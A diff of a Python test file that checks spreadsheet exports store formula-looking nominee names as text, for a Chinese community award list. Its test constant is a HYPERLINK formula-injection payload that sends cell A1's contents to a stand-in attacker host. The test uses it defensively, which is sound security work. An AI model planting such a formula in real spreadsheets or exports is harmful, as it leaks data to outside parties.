@@ -6,9 +6,7 @@ from pathlib import Path
 
 from openpyxl import Workbook, load_workbook
 
-from models.awards import AwardEntry
-from tasks.awards.records import export_xlsx
-from tasks.secondment.reports import keep_as_text
+from tasks.common.xlsx import Column, add_table, keep_as_text, new_workbook, save_workbook
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
@@ -27,12 +25,17 @@ def test_formula_looking_text_is_stored_as_text(tmp_path: Path) -> None:
     assert [c.data_type for c in row] == ["s", "s", "s", "s", "n", "s"]
 
 
-def test_award_list_export_keeps_a_nominee_name_as_text(db: Path) -> None:
-    entry = AwardEntry(
-        year=2026, ref="N1", category="family", name=PAYLOAD, street="嘉兴路街道", rank=1
+def test_every_exported_table_keeps_a_nominee_name_as_text(tmp_path: Path) -> None:
+    book = new_workbook()
+    add_table(
+        book,
+        sheet_name="学习型家庭",
+        title="2026年度学习型家庭评选结果",
+        columns=[Column("排名", "int"), Column("名称")],
+        rows=[[1, PAYLOAD]],
     )
 
-    path = export_xlsx(year=2026, entries=[entry])
+    path = save_workbook(book, tmp_path / "awards.xlsx")
 
-    cell = load_workbook(path).active["D2"]  # type: ignore[index]
+    cell = load_workbook(path)["学习型家庭"]["B3"]
     assert cell.value == PAYLOAD and cell.data_type == "s"
